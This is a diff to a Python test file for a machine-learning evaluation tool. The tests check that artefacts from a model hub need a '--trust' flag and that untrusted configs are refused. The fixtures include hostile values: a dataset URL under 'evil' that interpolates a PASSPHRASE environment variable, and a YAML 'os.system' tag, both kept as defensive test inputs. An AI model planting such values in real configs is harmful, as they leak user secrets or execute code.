@@ -52,6 +52,9 @@ def test_an_artefact_of_the_hub_is_evaluated_on_all_samples(
         monkeypatch.setenv("DTRAIN_CACHE", str(tmp_path / "cache"))
         model, data = f"artefact=hf://org/name@{commit}", f"data.eval={digits}/test-*.tar"
         code, text = ending(model, data, QUICK, f"out={tmp_path / 'out'}")
+        assert code != 0
+        assert_refused(text, "tests.toys.NormNet", "--trust")
+        code, text = ending(model, data, QUICK, f"out={tmp_path / 'out'}", "--trust")
     assert code == 0, text
     weights = finished_run / "checkpoints" / "step-000000015" / "ema.safetensors"
     expected, _ = by_hand(weights, digits)
@@ -59,6 +62,20 @@ def test_an_artefact_of_the_hub_is_evaluated_on_all_samples(
     (file,) = (tmp_path / "out").glob("*.json")
     assert file.name.startswith(f"org--name-{commit[:8]}-exported-fp32-")
     assert json.loads(file.read_text())["metrics"]["eval/accuracy"] == pytest.approx(expected["accuracy"])
+
+
+def test_a_field_may_have_several_extensions_as_in_packed_photographs(
+    artefact: Path, finished_run: Path, digits: Path, tmp_path: Path
+) -> None:
+    config = yaml.safe_load((artefact / "config.yaml").read_text())
+    fields = {"jpg;jpeg;png": config["data"]["fields"]["png"], "cls": config["data"]["fields"]["cls"]}
+    changed = copied(artefact, tmp_path / "photos", data=config["data"] | {"fields": fields})
+    expected = ending(f"artefact={artefact}", f"data.eval={digits}/test-*.tar", QUICK, f"out={tmp_path / 'out'}")
+    code, text = ending(
+        f"artefact={changed}", f"data.eval={digits}/test-*.tar", QUICK, f"out={tmp_path / 'out'}", "--trust"
+    )
+    assert (code, expected[0]) == (0, 0), text
+    assert numbers(text) == numbers(expected[1])
 
 
 @pytest.mark.slow
@@ -94,7 +111,7 @@ def test_the_config_of_somebody_else_never_reads_the_environment(
     monkeypatch.setenv("PASSPHRASE", "of the user")
     changed = copied(artefact, tmp_path / "changed", data={"eval": "hf://datasets/evil/${oc.env:PASSPHRASE}/x.tar"})
     with refused(ConfigError, "data.eval", "${oc.env:PASSPHRASE}", "--trust"):
-        recompose_artefact(changed, [])
+        recompose_artefact(changed, [], tmp_path)
 
 
 @pytest.mark.parametrize("content", [b"a: [", b"- 1", b"", b"\xff", b"data: !!python/name:os.system"])
@@ -102,7 +119,7 @@ def test_a_config_that_is_damaged_is_one_message(artefact: Path, tmp_path: Path,
     changed = copied(artefact, tmp_path / "changed")
     (changed / "config.yaml").write_bytes(content)
     with refused(ConfigError, "artefact", changed / "config.yaml", "Export the run again"):
-        recompose_artefact(changed, [])
+        recompose_artefact(changed, [], tmp_path)
 
 
 def test_the_config_of_somebody_else_may_only_name_known_code(
